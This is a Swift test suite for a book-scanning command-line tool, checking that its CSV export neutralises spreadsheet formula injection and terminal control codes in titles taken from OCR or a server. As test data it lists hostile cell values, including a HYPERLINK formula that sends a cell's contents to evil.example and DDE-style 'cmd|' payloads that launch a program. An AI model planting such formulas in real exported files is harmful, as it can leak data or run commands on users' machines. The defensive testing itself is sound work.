import BookscanTestSupport
import Foundation
import ScanProtocol
import Testing

@testable import bookscan

/// Titles come from OCR (or from whatever server answers), so a spine can read `=HYPERLINK(…)`: the
/// one CSV writer (`scan --csv` and `batch`'s `books.csv`) keeps every such cell text for a
/// spreadsheet, and stays RFC 4180.
@Suite("CSV injection")
struct CSVInjectionTests {
    let cli = CLITests()

    static let hostileTitles = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tx=1", "\r=1", "=1\r\n=2",
    ]

    /// Titles with terminal control codes (ESC, BEL, C1 CSI).
    static let controlTitles = ["Emma\u{1B}[31m\u{07}", "\u{9B}31m=red"]

    /// What each hostile and control title is in a CSV file: control characters (C0, C1, format) turned into spaces and the
    /// ends trimmed, as the terminal shows it, then a formula's leading `'`.
    static let writtenTitles = ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0",
        "x=1", "'=1", "'=1  =2", "Emma [31m", "31m=red"]

    @Test("a cell a spreadsheet would run gets a leading ' and quotes, and reads back as that text", arguments: hostileTitles)
    func neutralised(_ title: String) {
        let field = BookList.csvField(title)
        #expect(field.hasPrefix("\"'"), "\(field.debugDescription)")
        #expect(BookOutputTests.parseCSV(BookList.csv([[title, "next"]])) == [["'" + title, "next"]])
    }

    @Test(
        "other cells are left as they are, quoted only when RFC 4180 needs it",
        arguments: [
            ("Moby-Dick", "Moby-Dick"), ("1984", "1984"), ("a, b", "\"a, b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""), ("", ""),
            ("two\nlines", "\"two\nlines\""), ("two\r\nlines", "\"two\r\nlines\""), (" =not first", " =not first"),
        ])
    func ordinary(_ text: String, _ expected: String) {
        #expect(BookList.csvField(text) == expected)
    }

    /// A result with one book per hostile title, one row.
    static var hostileResult: ScanResult {
        let titles = hostileTitles + controlTitles
        let count = titles.count
        let spines = titles.enumerated().map { i, title in
            Spine(
                index: i, row: 0, box: NormalizedBox(x: Double(i) / Double(count), y: 0.1, width: 0.5 / Double(count), height: 0.8),
                confidence: 0.9, color: RGBColor(r: 1, g: 2, b: 3), pose: .upright, title: title, author: "@author")
        }
        return ScanResult(
            imageWidth: 480, imageHeight: 360, workingWidth: 480, workingHeight: 360,
            rows: [ShelfRow(index: 0, box: NormalizedBox(x: 0, y: 0, width: 1, height: 1), spineCount: count)], spines: spines, timings: [])
    }

    @Test("hostile titles from a server: scan --csv and batch's books.csv both neutralise every one")
    func throughTheCommands() async throws {
        let service = try ScriptedService(
            upload: { _ in .snapshot(state: .running, stage: .decoding, fraction: 0.1, seq: 1) },
            poll: { _ in .snapshot(state: .succeeded, stage: .done, fraction: 1, seq: 2, result: Self.hostileResult) })
        defer { service.stop() }
        let root = try BatchTests.folder(["=cmd.jpg": try BatchTests.photo(seed: 70)])
        let csv = root + "/scan.csv"
        let tracking = ["--server", service.url, "--strategy", "polling", "--poll-interval", "100ms", "--no-analytics", "--quiet"]
        let scan = try await cli.bookscan(["scan", root + "/=cmd.jpg", "--csv", csv] + tracking)
        #expect(scan.status == 0, "\(scan.stderr)")
        let batch = try await cli.bookscan(["batch", root] + tracking)
        #expect(batch.status == 0, "\(batch.stderr)")
        for file in [csv, root + "/.bookscan/books.csv"] {
            let rows = BookOutputTests.parseCSV(try String(contentsOfFile: file, encoding: .utf8)).dropFirst()
            #expect(rows.map { $0[4] } == Self.writtenTitles, "\(file)")
            #expect(!rows.joined().joined().unicodeScalars.contains { $0.properties.generalCategory == .control }, "\(file)")
            #expect(rows.allSatisfy { $0[5] == "'@author" }, "\(file)")
        }
        let batchRows = BookOutputTests.parseCSV(try String(contentsOfFile: root + "/.bookscan/books.csv", encoding: .utf8)).dropFirst()
        #expect(batchRows.allSatisfy { $0[0] == "'=cmd.jpg" })
    }
}
